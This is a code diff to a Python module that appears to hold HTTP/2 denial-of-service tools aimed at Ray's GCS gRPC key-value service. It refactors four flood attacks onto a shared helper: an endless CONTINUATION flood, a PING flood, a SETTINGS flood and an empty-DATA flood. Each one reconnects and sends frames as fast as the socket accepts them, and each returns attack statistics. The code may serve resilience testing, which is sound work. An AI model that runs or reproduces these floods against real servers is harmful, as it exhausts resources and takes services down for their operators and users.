@@ -36,6 +36,7 @@ from gcs.rpc.h2wire import (
     literal,
     literal_new,
 )
+from gcs.rpc.wire import varint
 
 KV_GET = "/ray.rpc.InternalKVGcsService/InternalKVGet"
 KV_PUT = "/ray.rpc.InternalKVGcsService/InternalKVPut"
@@ -46,18 +47,7 @@ MAX_WINDOW = 2**31 - 1
 
 
 def _field(number: int, value: bytes) -> bytes:
-    return _varint(number << 3 | 2) + _varint(len(value)) + value
-
-
-def _varint(n: int) -> bytes:
-    out = bytearray()
-    while True:
-        byte = n & 0x7F
-        n >>= 7
-        if not n:
-            out.append(byte)
-            return bytes(out)
-        out.append(byte | 0x80)
+    return varint(number << 3 | 2) + varint(len(value)) + value
 
 
 def kv_get_request(namespace: bytes, key: bytes) -> bytes:
@@ -358,57 +348,65 @@ async def large_bodies(
     return total
 
 
+async def _flood(
+    host: str,
+    port: int,
+    until: float,
+    unit: bytes,
+    *,
+    opener: bytes = b"",
+    batch: int,
+    max_connections: int,
+) -> AttackStats:
+    """``opener`` once per connection (a request on stream 1), then ``unit`` frames in
+    batches as fast as the socket takes them."""
+
+    async def burst(conn: RawH2) -> bool:
+        if opener and conn.next_sid == 1:
+            conn.send(opener)
+            conn.sid()
+        conn.send(unit * batch, batch)
+        return await conn.drain()
+
+    return await _reconnecting(host, port, until, burst, max_connections=max_connections)
+
+
 async def continuation_flood(
     host: str, port: int, until: float, *, batch: int = 500, max_connections: int = 0
 ) -> AttackStats:
     """HEADERS without END_HEADERS, then zero-length CONTINUATION frames forever."""
-
-    async def burst(conn: RawH2) -> bool:
-        if conn.next_sid == 1:
-            conn.send(frame(HEADERS, 0, conn.sid(), request_block(KV_GET)[:4]))
-        conn.send(frame(CONTINUATION, 0, conn.next_sid - 2, b"") * batch, batch)
-        return await conn.drain()
-
-    return await _reconnecting(host, port, until, burst, max_connections=max_connections)
+    opener = frame(HEADERS, 0, 1, request_block(KV_GET)[:4])
+    unit = frame(CONTINUATION, 0, 1, b"")
+    return await _flood(
+        host, port, until, unit, opener=opener, batch=batch, max_connections=max_connections
+    )
 
 
 async def ping_flood(
     host: str, port: int, until: float, *, batch: int = 500, max_connections: int = 0
 ) -> AttackStats:
     """PING frames as fast as the socket takes them."""
-
-    async def burst(conn: RawH2) -> bool:
-        conn.send(frame(PING, 0, 0, b"floodpng") * batch, batch)
-        return await conn.drain()
-
-    return await _reconnecting(host, port, until, burst, max_connections=max_connections)
+    unit = frame(PING, 0, 0, b"floodpng")
+    return await _flood(host, port, until, unit, batch=batch, max_connections=max_connections)
 
 
 async def settings_flood(
     host: str, port: int, until: float, *, batch: int = 500, max_connections: int = 0
 ) -> AttackStats:
     """SETTINGS frames (each to be acknowledged) as fast as the socket takes them."""
-    settings = frame(SETTINGS, 0, 0, struct.pack(">HI", S_INITIAL_WINDOW_SIZE, 65535))
-
-    async def burst(conn: RawH2) -> bool:
-        conn.send(settings * batch, batch)
-        return await conn.drain()
-
-    return await _reconnecting(host, port, until, burst, max_connections=max_connections)
+    unit = frame(SETTINGS, 0, 0, struct.pack(">HI", S_INITIAL_WINDOW_SIZE, 65535))
+    return await _flood(host, port, until, unit, batch=batch, max_connections=max_connections)
 
 
 async def empty_data_flood(
     host: str, port: int, until: float, *, batch: int = 500, max_connections: int = 0
 ) -> AttackStats:
     """An open stream, then empty DATA frames without END_STREAM forever."""
-
-    async def burst(conn: RawH2) -> bool:
-        if conn.next_sid == 1:
-            conn.send(frame(HEADERS, END_HEADERS, conn.sid(), request_block(KV_GET)))
-        conn.send(frame(DATA, 0, conn.next_sid - 2, b"") * batch, batch)
-        return await conn.drain()
-
-    return await _reconnecting(host, port, until, burst, max_connections=max_connections)
+    opener = frame(HEADERS, END_HEADERS, 1, request_block(KV_GET))
+    unit = frame(DATA, 0, 1, b"")
+    return await _flood(
+        host, port, until, unit, opener=opener, batch=batch, max_connections=max_connections
+    )
 
 
 async def unread_replies(
